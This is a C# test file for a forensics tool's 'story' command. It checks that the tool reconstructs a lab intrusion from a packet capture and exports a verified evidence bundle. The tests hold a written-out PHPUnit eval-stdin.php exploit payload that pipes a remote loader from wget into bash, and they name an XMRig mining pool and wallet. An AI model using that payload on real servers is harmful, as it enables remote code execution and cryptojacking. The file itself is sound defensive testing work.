using System.IO.Compression;
using System.Security.Cryptography;
using System.Text.Json;
using Xunit.Abstractions;

namespace Assay.Tests.Cli;

/// <summary>
/// <c>assay story</c> on the lab's intrusion (devlab-incident-phpunit, truth in lab/devlab-incident-phpunit.truth.md and
/// lab/truth/devlab-incident-phpunit/): the victim's story holds, in this order, the exploit request with its payload,
/// the loader script's URL and sha256 with what it does, the binary's sha256 (an XMRig build), and the mining session to
/// the attacker's pool with the wallet; the evidence bundle's manifest verifies and its pcaps open in tcpdump.
/// </summary>
public sealed class StoryCommandTests(ITestOutputHelper output) : IDisposable
{
    private const string Victim = "10.77.0.20";
    private readonly string _dir = Directory.CreateTempSubdirectory("assay-story-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private (int ExitCode, string Stdout, string Stderr) Run(string file, params string[] args) =>
        ProcessRun.Run(_dir, TimeSpan.FromSeconds(120), file, args);

    private (int ExitCode, string Stdout, string Stderr) Assay(params string[] args) => Run("dotnet", [ProcessRun.AssayDll, .. args]);

    private string Analyzed()
    {
        string data = Path.Combine(_dir, "data");
        var (code, _, stderr) = Assay("analyze", Corpus.Path("lab/devlab-incident-phpunit.pcap"), "-d", data, "--json");
        Assert.True(code == 0, stderr);
        return data;
    }

    private static Dictionary<string, string> TruthHashes() =>
        File.ReadLines(Corpus.Path("lab/truth/devlab-incident-phpunit/hashes.sha256"))
            .Select(l => l.Split("  ", 2)).Where(p => p.Length == 2).GroupBy(p => p[1]).ToDictionary(g => g.Key, g => g.First()[0], StringComparer.Ordinal);

    [Fact]
    public void TheVictimsStoryIsTheIncidentAsTheTruthTellsIt()
    {
        if (Corpus.Root is null)
            return;
        string data = Analyzed();
        var (code, stdout, stderr) = Assay("story", Victim, "-d", data, "--json");
        Assert.True(code == 0, stderr);
        using JsonDocument document = JsonDocument.Parse(stdout);
        JsonElement story = document.RootElement;
        JsonElement[] steps = [.. story.GetProperty("steps").EnumerateArray()];
        foreach (JsonElement step in steps)
            output.WriteLine($"{step.GetProperty("step").GetInt32()}. {step.GetProperty("time").GetString()} {step.GetProperty("kind").GetString()} {step.GetProperty("title").GetString()}");
        foreach (JsonElement line in story.GetProperty("summary").EnumerateArray())
            output.WriteLine(line.GetString());

        Dictionary<string, string> truth = TruthHashes();
        string exploitBody = "<?php system('wget -q -O - http://10.77.0.5:8080/ldr.sh | bash'); ?>";
        JsonElement exploit = steps.First(s => s.GetProperty("kind").GetString() == "exploit"
            && s.GetProperty("details").TryGetProperty("payload", out JsonElement payload) && payload.GetString() == exploitBody);
        Assert.Equal("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", exploit.GetProperty("details").GetProperty("request").GetString());
        Assert.Equal("10.77.0.5", exploit.GetProperty("details").GetProperty("attacker").GetString());
        Assert.StartsWith("yes", exploit.GetProperty("details").GetProperty("answered_with_success").GetString(), StringComparison.Ordinal);

        JsonElement loader = steps.Single(s => s.GetProperty("kind").GetString() == "download" && s.GetProperty("details").GetProperty("url").GetString()!.EndsWith("/ldr.sh", StringComparison.Ordinal));
        Assert.Equal(truth["attacker_www/ldr.sh"], loader.GetProperty("details").GetProperty("sha256").GetString());
        string[] categories = [.. loader.GetProperty("details").GetProperty("indicators").EnumerateArray().Select(i => i.GetProperty("category").GetString()!).Distinct()];
        output.WriteLine("ldr.sh: " + string.Join(", ", categories));
        foreach (string expected in new[] { "competitor-kill", "persistence-cron", "file-immutable", "firewall", "security-removal", "hugepages", "download-exec" })
            Assert.Contains(expected, categories);
        Assert.Contains(loader.GetProperty("linked").EnumerateArray(), l => l.GetString()!.Contains("payload", StringComparison.Ordinal));

        JsonElement binary = steps.Single(s => s.GetProperty("kind").GetString() == "download" && s.GetProperty("details").GetProperty("url").GetString()!.EndsWith("/sysupdate", StringComparison.Ordinal));
        Assert.Equal(truth["attacker_www/sysupdate"], binary.GetProperty("details").GetProperty("sha256").GetString());
        JsonElement elf = binary.GetProperty("details").GetProperty("elf");
        Assert.Contains("xmrig", elf.GetProperty("miner_markers").EnumerateArray().Select(m => m.GetString()!.ToLowerInvariant()));
        JsonElement config = steps.Single(s => s.GetProperty("kind").GetString() == "download" && s.GetProperty("details").GetProperty("url").GetString()!.EndsWith("/config.json", StringComparison.Ordinal));
        Assert.Equal(truth["attacker_www/config.json"], config.GetProperty("details").GetProperty("sha256").GetString());

        JsonElement mining = steps.Single(s => s.GetProperty("kind").GetString() == "mining");
        Assert.StartsWith("10.77.0.5:14444", mining.GetProperty("details").GetProperty("pool").GetString(), StringComparison.Ordinal);
        Assert.Equal("43DFPvju1bP4t1AjSddNLsjPbxRugXL1oBFQnheXyc5YGakVeAGCrruCTwy9ovHCUq7TjGsX2GVwL4jjHdTK6qnbDgRGxic", mining.GetProperty("details").GetProperty("login").GetString());

        // The order of events, as in the truth's timeline: exploit → loader → binary → mining.
        int Step(JsonElement s) => s.GetProperty("step").GetInt32();
        Assert.True(Step(exploit) < Step(loader) && Step(loader) < Step(binary) && Step(binary) < Step(mining));
        Assert.All(steps, s => Assert.StartsWith("assay pcap -d ", s.GetProperty("pcap").GetString(), StringComparison.Ordinal));

        var (textCode, text, _) = Assay("story", Victim, "-d", data);
        Assert.Equal(0, textCode);
        Assert.Contains("eval-stdin.php", text, StringComparison.Ordinal);
        Assert.Contains("mined to 10.77.0.5:14444", text, StringComparison.Ordinal);
    }

    [Fact]
    public void TheEvidenceBundleVerifiesAndItsPcapsOpenInTcpdump()
    {
        if (Corpus.Root is null)
            return;
        string data = Analyzed();
        string zipPath = Path.Combine(_dir, "case.zip");
        var (code, _, stderr) = Assay("story", Victim, "-d", data, "--export", zipPath);
        Assert.True(code == 0, stderr);
        using ZipArchive zip = ZipFile.OpenRead(zipPath);
        using JsonDocument manifest = JsonDocument.Parse(zip.GetEntry("manifest.json")!.Open());
        int verified = 0, pcaps = 0;
        foreach (JsonElement member in manifest.RootElement.GetProperty("members").EnumerateArray())
        {
            string name = member.GetProperty("name").GetString()!;
            using var content = new MemoryStream();
            using (Stream stream = zip.GetEntry(name)!.Open())
                stream.CopyTo(content);
            Assert.Equal(member.GetProperty("sha256").GetString(), Convert.ToHexStringLower(SHA256.HashData(content.ToArray())));
            verified++;
            if (name.EndsWith(".pcap", StringComparison.Ordinal) && !File.Exists("/usr/sbin/tcpdump") && !File.Exists("/usr/bin/tcpdump"))
                continue;
            if (name.EndsWith(".pcap", StringComparison.Ordinal))
            {
                string path = Path.Combine(_dir, Path.GetFileName(name));
                File.WriteAllBytes(path, content.ToArray());
                var (tcpdump, _, tcpdumpError) = Run("tcpdump", "-nn", "-r", path);
                Assert.True(tcpdump == 0, tcpdumpError);
                pcaps++;
            }
        }

        Dictionary<string, string> truth = TruthHashes();
        Assert.NotNull(zip.GetEntry($"files/{truth["attacker_www/ldr.sh"]}"));
        Assert.NotNull(zip.GetEntry($"files/{truth["attacker_www/sysupdate"]}"));
        Assert.NotNull(zip.GetEntry("story.json"));
        Assert.NotNull(zip.GetEntry("story.txt"));
        JsonElement[] segments = [.. manifest.RootElement.GetProperty("capture_segments").EnumerateArray()];
        Assert.NotEmpty(segments);
        foreach (JsonElement segment in segments)
        {
            string path = Path.Combine(data, "packets", segment.GetProperty("name").GetString()!);
            using FileStream stream = File.OpenRead(path);
            Assert.Equal(segment.GetProperty("sha256").GetString(), Convert.ToHexStringLower(SHA256.HashData(stream)));
        }

        output.WriteLine($"{verified} members verified, {pcaps} pcaps opened in tcpdump, {segments.Length} capture segments hashed");
    }

    [Fact]
    public void BadStoryRequestsAreOneLine()
    {
        Assert.Equal(1, Assay("story", "not-an-ip", "-d", _dir).ExitCode);
        var missing = Assay("story", Victim, "-d", Path.Combine(_dir, "nothing"));
        Assert.Equal(2, missing.ExitCode);
        Assert.DoesNotContain("   at ", missing.Stderr, StringComparison.Ordinal);
    }
}
